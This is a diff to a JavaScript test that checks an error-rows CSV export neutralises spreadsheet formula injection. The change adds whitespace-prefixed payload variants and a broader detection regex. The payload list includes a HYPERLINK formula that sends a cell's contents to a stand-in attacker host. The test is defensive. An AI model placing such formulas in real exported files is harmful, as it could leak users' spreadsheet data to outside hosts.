@@ -66,7 +66,17 @@ test('an export of the pages stays in its folder, and no words of a product stop
 
 // security 22
 test('no cell of the faulty rows begins a formula, the reason neither', async () => {
-  const formulas = ['=HYPERLINK("http://evil.example?"&A1,"see")', '+cmd', '-1+1', '@SUM(A1)', '\t=1', '＝1']
+  const formulas = [
+    '=HYPERLINK("http://evil.example?"&A1,"see")',
+    '+cmd',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    '＝1',
+    ' =1',
+    '\u00a0=1',
+    '\u3000=1',
+  ]
   for (const formula of formulas) {
     const quoted = formula.replaceAll('"', '""')
     const form = new FormData()
@@ -89,7 +99,7 @@ test('no cell of the faulty rows begins a formula, the reason neither', async ()
     )
     const text = await errors.text()
     expect(text).toContain('longer than')
-    expect(text).not.toMatch(/(?:^|\n|,)"?[=+\-@\t＝]/)
+    expect(text).not.toMatch(/(?:^|\n|,)"?(?:[^\S\n]*[=+\-@＝]|\t)/)
   }
 })
 
